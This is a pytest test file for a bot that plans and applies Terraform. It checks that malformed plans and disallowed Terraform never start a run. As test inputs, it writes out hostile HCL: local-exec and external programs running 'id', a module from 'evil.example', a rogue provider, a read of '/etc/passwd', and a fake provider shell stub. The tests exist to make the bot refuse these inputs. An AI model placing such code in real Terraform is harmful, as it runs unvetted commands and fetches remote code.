"""What a stack must hold before anything is started: an unedited plan, a state, and Terraform that runs nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from bot.errors import Code
from tests.applying.belt import Belt, config, files_of, one, shop_plan, web_plan

WEB = files_of(web_plan())
MAIN = "apps/web/terraform/main.tf"


@pytest.fixture
def belt(tmp_path: Path) -> Belt:
    made = Belt(tmp_path)
    made.terraform.wanted = {"vm.web-1": "1"}
    return made


def edited(**fields: object) -> str:
    document = json.loads(WEB["apps/web/plan.json"])
    return json.dumps({**document, **fields})


def moved() -> str:
    document = json.loads(WEB["apps/web/plan.json"])
    document["plan"]["app"] = "other"
    return json.dumps(document)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (None, "is not there"),
        ("", "is not as the bot wrote it"),
        ("{", "is not as the bot wrote it"),
        ("[" * 50_000, "is not as the bot wrote it"),
        (edited(extra=1), "is not as the bot wrote it: extra"),
        (edited(schema_version=2), "is not as the bot wrote it: schema_version"),
        (moved(), "is the plan of apps/other"),
    ],
)
def test_a_plan_that_nobody_can_read_starts_nothing(belt: Belt, text: str | None, told: str) -> None:
    pull = belt.propose({**WEB, "apps/web/plan.json": text})
    [planned] = belt.plan(pull)
    assert (planned.code, told in planned.message) == (Code.CONFIG, True), planned.message
    belt.approve(pull)
    belt.merge(pull)
    outcome = one(belt.apply())
    assert (outcome.kind, outcome.code) == ("abandoned", Code.CONFIG)
    assert belt.terraform.log == []


PROVISIONER = 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n'
FOREIGN = 'terraform {\n  required_providers {\n    evil = {\n      source  = "evil/evil"\n      version = "1.0.0"\n    }\n  }\n}\n'
BAD = {
    "provisioner": ("extra.tf", PROVISIONER),
    "external data": ("extra.tf", 'data "external" "x" {\n  program = ["id"]\n}\n'),
    "module": ("extra.tf", 'module "x" {\n  source = "git::https://evil.example/x"\n}\n'),
    "provider": ("extra.tf", FOREIGN),
    "file()": ("extra.tf", 'output "x" {\n  value = file("/etc/passwd")\n}\n'),
    "override": ("main_override.tf", PROVISIONER),
    "no HCL": ("extra.tf", "resource {{{\n"),
    "JSON syntax": ("extra.tf.json", json.dumps({"data": {"external": {"x": {"program": ["id"]}}}})),
    "hidden variables": ("evil.auto.tfvars", "x = 1\n"),
    "a provider in the data folder": (".terraform/providers/x", "#!/bin/sh\n"),
    "a folder": ("sub/extra.tf", PROVISIONER),
    "a state": ("terraform.tfstate", "{}"),
    "a test": ("x.tftest.hcl", "run {}\n"),
}


@pytest.mark.parametrize("case", BAD)
def test_terraform_that_the_bot_would_not_write_is_never_started(belt: Belt, case: str) -> None:
    name, text = BAD[case]
    pull = belt.propose({**WEB, f"apps/web/terraform/{name}": text})
    [planned] = belt.plan(pull)
    assert planned.code == Code.POLICY, planned
    belt.approve(pull)
    belt.merge(pull)
    outcome = one(belt.apply())
    assert (outcome.kind, outcome.code) == ("abandoned", Code.POLICY)
    assert belt.terraform.log == []


def test_a_file_that_is_no_text_is_refused(belt: Belt, monkeypatch: pytest.MonkeyPatch) -> None:
    del monkeypatch
    pull = belt.propose(dict(WEB))
    export = belt.checkout.export

    def with_bytes(commit: str, root: str, into: Path) -> None:
        export(commit, root, into)
        (into / "terraform" / "main.tf").write_bytes(b"\xff\xfe")

    belt.checkout.export = with_bytes  # type: ignore[method-assign]
    [planned] = belt.plan(pull)
    assert planned.code == Code.POLICY


def test_without_a_backend_nothing_is_planned(belt: Belt) -> None:
    [planned] = belt.plan(belt.propose({**WEB, "apps/web/terraform/backend.tf": None}))
    assert (planned.code, "no place for Terraform's state" in planned.message) == (Code.CONFIG, True)
    assert belt.terraform.log == []


def test_without_a_state_in_the_config_nothing_is_planned(belt: Belt) -> None:
    belt.settings = config(state=None)
    [planned] = belt.plan(belt.propose(dict(WEB)))
    assert planned.code == Code.CONFIG
    assert belt.terraform.log == []


def test_workloads_alone_need_no_state(belt: Belt) -> None:
    belt.settings = config(state=None)
    assert belt.brought(files_of(shop_plan()))[1].kind == "applied"
